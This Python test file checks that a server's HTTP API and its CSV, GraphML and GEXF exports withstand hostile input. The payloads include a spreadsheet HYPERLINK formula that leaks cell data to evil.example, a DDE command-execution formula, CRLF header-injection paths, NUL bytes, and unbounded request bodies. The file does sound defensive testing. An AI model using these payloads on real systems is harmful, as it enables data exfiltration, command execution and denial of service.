"""The HTTP API and the exports against hostile requests and hostile stored values (SQLite and PostgreSQL).

A real uvicorn server on loopback over a store holding what strangers' pages can
put there: cells that spreadsheets run as formulas, actor codes with control
characters. Requests carry NUL bytes, CR/LF, oversized and endless bodies.
"""

from __future__ import annotations

import csv
import io
import json
import socket
import threading
import time
from collections.abc import Iterator
from datetime import date
from pathlib import Path

import networkx as nx
import pytest
from typer.testing import CliRunner

httpx = pytest.importorskip("httpx")
pytest.importorskip("fastapi")

from realpolitik.interfaces.cli import app  # noqa: E402
from realpolitik.store import open_store  # noqa: E402
from realpolitik.web.server import BackgroundServer  # noqa: E402
from realpolitik.web.settings import MAX_BODY_BYTES, Settings  # noqa: E402

TOKEN = "hostile-token"
FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1:A2)",
            "\tTAB", "\rCR"]


@pytest.fixture
def hostile_store(store_url: str, make_document, make_event, make_extraction, make_relation) -> str:  # type: ignore[no-untyped-def]
    with open_store(store_url) as store:
        for n, formula in enumerate(FORMULAS):
            doc = make_document(f"Text {n}. {formula}", id=f"doc-{n}", title=formula, outlet=formula,
                                url=f"https://news.example.org/{n}", published=date(2025, 10, 1 + n))
            event = make_event(doc_id=doc.id, evidence=formula, source="RUS", target="UKR", goldstein=-5.0)
            make_extraction(doc, [event], [])
            store.save(make_extraction(doc, [event], []))
        doc = make_document("Control characters.", id="doc-ctl", published=date(2025, 10, 20))
        odd = make_event(doc_id=doc.id, source="RU\x01S", target="UK\x0bR\x00", evidence="x")
        tie = make_relation(a="AB\x02C", b="VEN", doc_id=doc.id)
        store.save(make_extraction(doc, [odd], [tie]))
    return store_url


@pytest.fixture
def server(hostile_store: str) -> Iterator[BackgroundServer]:
    with BackgroundServer(Settings(db=hostile_store, token=TOKEN, cluster_on_start=False)) as running:
        yield running


def _csv_cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text)) for cell in row]


def test_csv_exports_defuse_formulas(server: BackgroundServer, hostile_store: str, tmp_path: Path) -> None:
    for path in ("/api/events?format=csv&limit=1000", "/api/documents?format=csv"):
        cells = _csv_cells(httpx.get(server.url + path, timeout=30).text)
        assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")], path
        assert "-5.0" in cells or path.startswith("/api/documents")  # numbers stay numbers
    out = tmp_path / "events.csv"
    result = CliRunner().invoke(app, ["export", "-f", "csv", "-o", str(out), "--db", hostile_store])
    assert result.exit_code == 0, result.output
    cells = _csv_cells(out.read_text(encoding="utf-8"))
    assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")" in cells and "-5.0" in cells
    assert not [c for c in cells if c[:1] in ("=", "+", "@", "\t", "\r")]
    shown = CliRunner().invoke(app, ["events", "--db", hostile_store, "--format", "csv"])
    assert shown.exit_code == 0 and not [c for c in _csv_cells(shown.stdout) if c[:1] in ("=", "+", "@")]


def test_graph_exports_stay_valid_xml(hostile_store: str, tmp_path: Path) -> None:
    for fmt in ("graphml", "gexf"):
        out = tmp_path / f"net.{fmt}"
        result = CliRunner().invoke(app, ["export", "-f", fmt, "-o", str(out), "--db", hostile_store])
        assert result.exit_code == 0, result.output
        graph = nx.read_graphml(out) if fmt == "graphml" else nx.read_gexf(out)
        assert {"RUS", "UKR", "ABC"} <= set(graph.nodes), sorted(graph.nodes)


@pytest.mark.parametrize("path", ["/api/allies/RUS%0d%0aSet-Cookie:x=1?format=csv", "/api/allies/RUS%0a?format=csv",
                                  "/api/dyad/RUS/UKR%0d%0a?format=csv", "/api/allies/RUS%22;x=%22?format=csv"])
def test_no_header_injection(server: BackgroundServer, path: str) -> None:
    answer = httpx.get(server.url + path, timeout=30)
    assert answer.status_code == 422 and "set-cookie" not in answer.headers
    good = httpx.get(server.url + "/api/allies/rus?format=csv", timeout=30)
    assert good.headers["content-disposition"] == 'attachment; filename="allies-RUS.csv"'


@pytest.mark.parametrize("path", ["/api/events?actor=RU%00S", "/api/events?text=a%00b", "/api/documents?q=%00",
                                  "/api/documents/doc%00x", "/api/allies/R%00US", "/api/events?doc_id=%00",
                                  "/api/documents?lang=%00", "/api/events?sort=%00", "/api/relations?kind=a%00",
                                  "/api/changes?actor=%00", "/api/network?actor=%00", "/api/dyad/RUS/U%00KR"])
def test_nul_bytes_are_4xx(server: BackgroundServer, path: str) -> None:
    answer = httpx.get(server.url + path, timeout=30)
    assert 400 <= answer.status_code < 500, (path, answer.status_code, answer.text)


def test_nul_in_posted_text_is_stored_without_it_or_refused(server: BackgroundServer) -> None:
    auth = {"Authorization": f"Bearer {TOKEN}"}
    body = {"text": "Poland and Germany signed\u0000 a defense pact.", "title": "T\u0000", "published": "2025-12-01"}
    answer = httpx.post(f"{server.url}/api/documents", json=body, headers=auth, timeout=60)
    assert answer.status_code in (201, 422), answer.text
    assert "\x00" not in answer.text.encode().decode("unicode_escape", errors="ignore")


def test_body_limit_before_reading_and_before_the_token(server: BackgroundServer) -> None:
    """A huge declared body is refused at once; one streamed without a length is cut off at the limit."""
    with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
        sock.sendall(b"POST /api/documents HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\n"
                     b"Content-Length: 300000000\r\n\r\n")
        reply = sock.recv(4096)
    assert reply.startswith(b"HTTP/1.1 413")
    sent = 0

    def endless() -> Iterator[bytes]:
        nonlocal sent
        chunk = b"x" * 65536
        while sent < 10 * MAX_BODY_BYTES:
            sent += len(chunk)
            yield chunk

    with _maybe_reset():
        answer = httpx.post(f"{server.url}/api/documents", content=endless(), timeout=30,
                            headers={"Content-Type": "application/json"})
        assert answer.status_code == 413
    assert sent < 3 * MAX_BODY_BYTES  # the server stopped reading long before the end


class _maybe_reset:  # noqa: N801 - a context manager used like a function
    """A server that stops reading may reset the connection before the client reads the 413: both are fine."""

    def __enter__(self) -> None:
        return None

    def __exit__(self, kind, value, tb) -> bool:  # type: ignore[no-untyped-def]
        return kind is not None and issubclass(kind, httpx.TransportError)


def test_unauthenticated_floods_do_not_grow_memory(server: BackgroundServer) -> None:
    """Three concurrent large unauthenticated bodies: each refused, none held."""
    results: list[int] = []

    def post() -> None:
        with socket.create_connection(("127.0.0.1", server.port), timeout=10) as sock:
            sock.sendall(b"POST /api/documents HTTP/1.1\r\nHost: x\r\nTransfer-Encoding: chunked\r\n\r\n")
            try:
                for _ in range(200):
                    sock.sendall(b"10000\r\n" + b"y" * 0x10000 + b"\r\n")
            except OSError:
                pass
            try:
                results.append(int(sock.recv(4096).split(b" ")[1]))
            except (OSError, IndexError, ValueError):
                results.append(0)

    threads = [threading.Thread(target=post) for _ in range(3)]
    started = time.monotonic()
    for t in threads:
        t.start()
    for t in threads:
        t.join(60)
    assert time.monotonic() - started < 60
    assert all(code in (413, 0) for code in results), results
    assert httpx.get(server.url + "/api/meta", timeout=30).status_code == 200


def test_api_lang_must_be_one_realpolitik_reads(server: BackgroundServer) -> None:
    auth = {"Authorization": f"Bearer {TOKEN}"}
    answer = httpx.post(f"{server.url}/api/documents", json={"text": "Some text here.", "lang": "xx"}, headers=auth)
    assert answer.status_code == 422 and "lang" in answer.text


def test_api_thread_is_released_within_the_budget(hostile_store: str) -> None:
    """An unpunctuated text that would take minutes comes back as a `timeout` rejection within the budget."""
    words = ["Russland", "kritisierte", "die", "Ukraine", "und", "Venezuela", "verurteilte", "China", "sowie",
             "die", "USA"]
    text = " ".join(words[i % len(words)] for i in range(100_000))
    settings = Settings(db=hostile_store, token=TOKEN, cluster_on_start=False, doc_seconds=2.0)
    auth = {"Authorization": f"Bearer {TOKEN}"}
    with BackgroundServer(settings) as running:
        running.server.config.app.state.stages_loaded.join()  # data loads once at start, outside any budget
        started = time.monotonic()  # the same body refused by validation: sending and parsing it, on this machine now
        refused = httpx.post(f"{running.url}/api/documents", json={"text": text, "lang": "de", "published": "x"},
                             headers=auth, timeout=120)
        overhead = time.monotonic() - started
        started = time.monotonic()
        answer = httpx.post(f"{running.url}/api/documents", json={"text": text, "lang": "de"}, headers=auth,
                            timeout=120)
        spent = time.monotonic() - started
    assert refused.status_code == 422
    assert answer.status_code == 422 and "timeout" in answer.json()["detail"], answer.text[:300]
    assert spent < 2.0 + 3 * overhead + 3.0, (spent, overhead)  # unbounded, this text takes 20 s and more


def test_cli_refuses_unknown_languages(tmp_path: Path) -> None:
    doc = tmp_path / "a.txt"
    doc.write_text("Russland und China unterzeichneten ein Abkommen.", encoding="utf-8")
    for command in (["extract", str(doc), "--lang", "xx"],
                    ["ingest", str(doc), "--lang", "xx", "--db", f"sqlite:///{tmp_path / 'l.db'}"],
                    ["actors", "Russland", "--lang", "xx"]):
        result = CliRunner().invoke(app, command)
        assert result.exit_code == 2 and "xx" in result.output, (command, result.output)
    assert CliRunner().invoke(app, ["extract", str(doc), "--lang", "DE"]).exit_code == 0


def test_allies_at_a_date_leave_out_ties_that_only_ever_ended(store, store_url, make_document,  # type: ignore[no-untyped-def]
                                                              make_extraction, make_relation) -> None:
    from realpolitik.query import allies

    ended = make_relation(a="RUS", b="GEO", kind="cooperation_agreement", status="ended", doc_id="d-end")
    live = make_relation(a="RUS", b="BLR", kind="defense_pact", status="in_force", doc_id="d-live")
    for rel, day in ((ended, date(2025, 10, 27)), (live, date(2024, 6, 1))):
        store.save(make_extraction(make_document(f"About {rel.b}.", id=rel.doc_id, published=day), [], [rel]))
    assert [a["ally"] for a in allies(store, "RUS")] == ["BLR"]
    for at in (date(2025, 1, 1), date(2025, 12, 31)):  # before and after the report that it ended
        assert [a["ally"] for a in allies(store, "RUS", at=at)] == ["BLR"], at
    result = CliRunner().invoke(app, ["allies", "RUS", "--at", "2025-01-01", "--format", "jsonl",
                                      "--db", store_url])
    assert result.exit_code == 0 and [json.loads(x)["ally"] for x in result.stdout.splitlines()] == ["BLR"]

